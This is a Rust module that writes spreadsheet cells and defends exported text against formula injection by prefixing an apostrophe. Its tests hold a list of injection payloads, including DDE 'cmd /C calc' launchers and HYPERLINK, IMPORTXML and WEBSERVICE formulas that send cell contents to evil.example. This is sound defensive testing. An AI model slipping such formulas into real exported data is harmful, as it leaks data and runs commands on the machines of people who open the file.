//! What stands in a cell.
//!
//! Spreadsheets take a text that begins with `=`, `+`, `-` or `@` for a formula, and a formula can send what stands beside it
//! anywhere. Names come from guests. So such a text gets an apostrophe in front, which every spreadsheet shows as text; it is
//! quoted like every text. Numbers are written by us and stay numbers.

use chrono::{DateTime, NaiveDateTime, Utc};
use chrono_tz::Tz;
use domain::money::{Currency, Money};

/// A cell.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Cell {
    /// Whatever somebody wrote.
    Text(String),
    /// An amount; its currency has a column of its own.
    Amount(Money),
    /// How many.
    Count(i64),
    /// A time on the venue's clock.
    Time(NaiveDateTime),
    /// Nothing.
    Empty,
}

/// What begins a formula, or hides what does: the wide forms too, which some spreadsheets read as the narrow ones.
const FORMULA: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];

impl Cell {
    /// A text.
    pub fn text(text: impl Into<String>) -> Self {
        Self::Text(text.into())
    }

    /// An amount in minor units.
    pub fn amount(minor: i64, currency: &str) -> Self {
        Self::Amount(Money::new(minor, currency.parse().unwrap_or(Currency::Eur)))
    }

    /// A time as the clocks of `zone` show it.
    pub fn time(at: DateTime<Utc>, zone: Tz) -> Self {
        Self::Time(at.with_timezone(&zone).naive_local())
    }

    /// The same, if there is one.
    pub fn time_of(at: Option<DateTime<Utc>>, zone: Tz) -> Self {
        at.map_or(Self::Empty, |at| Self::time(at, zone))
    }

    /// As it is written where all is text.
    pub fn written(&self) -> String {
        match self {
            Self::Text(text) => harmless(text),
            Self::Amount(amount) => decimal(*amount),
            Self::Count(number) => number.to_string(),
            Self::Time(at) => at.format("%Y-%m-%d %H:%M:%S").to_string(),
            Self::Empty => String::new(),
        }
    }
}

/// The text, with an apostrophe before what a spreadsheet would work out.
pub fn harmless(text: &str) -> String {
    let hides = text.starts_with(['\t', '\r', '\n', '\0']);
    let begins = text.trim_start().starts_with(FORMULA);
    if hides || begins { format!("'{text}") } else { text.to_owned() }
}

/// `-24.50`: a point and no grouping, in every language.
pub fn decimal(amount: Money) -> String {
    let text = amount.to_string();
    text.split(' ').next().unwrap_or_default().to_owned()
}

#[cfg(test)]
mod tests {
    use super::{Cell, harmless};
    use chrono::DateTime;
    use chrono_tz::Europe::Madrid;

    /// What guests might call themselves.
    const PAYLOADS: [&str; 30] = [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"https://evil.example?x=\"&A1,\"Click\")",
        "=IMPORTXML(CONCAT(\"https://evil.example?\",A1),\"//a\")",
        "=WEBSERVICE(\"https://evil.example/\"&A1)",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "+1+1",
        "+cmd|' /C calc'!A0",
        "+34 600 000 000",
        "-1+1",
        "-2+3+cmd|' /C calc'!A0",
        "-Ana",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "@ana",
        "\t=1+1",
        "\tAna",
        "\r=1+1",
        "\rAna",
        "\n=1+1",
        "\r\n@SUM(A1)",
        " =1+1",
        "   +1",
        "\u{a0}=1+1",
        "\u{3000}-1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
        "=\"a\",\"b\"\n=1+1",
        "\0=1+1",
    ];

    #[test]
    fn whatever_a_guest_is_called_is_no_formula() {
        for payload in PAYLOADS {
            let written = Cell::text(payload).written();
            assert_eq!(written, format!("'{payload}"), "{payload:?}");
        }
        for name in ["Ana López", "O'Hara", "", "1 = 1", "a@b.example", "Jean-Luc", "2026-11-27", "'=1"] {
            assert_eq!(harmless(name), name, "{name:?}");
        }
    }

    #[test]
    fn numbers_stay_numbers() {
        assert_eq!(Cell::amount(-2450, "EUR").written(), "-24.50");
        assert_eq!(Cell::amount(5, "USD").written(), "0.05");
        assert_eq!(Cell::amount(123_456_789, "MXN").written(), "1234567.89");
        assert_eq!(Cell::Count(-3).written(), "-3");
    }

    #[test]
    fn times_are_the_venues() {
        let at = DateTime::from_timestamp(1_795_822_200, 0).expect("in range");
        assert_eq!(at.to_rfc3339(), "2026-11-27T23:30:00+00:00");
        assert_eq!(Cell::time(at, Madrid).written(), "2026-11-28 00:30:00");
        assert_eq!(Cell::time_of(None, Madrid).written(), "");
    }
}
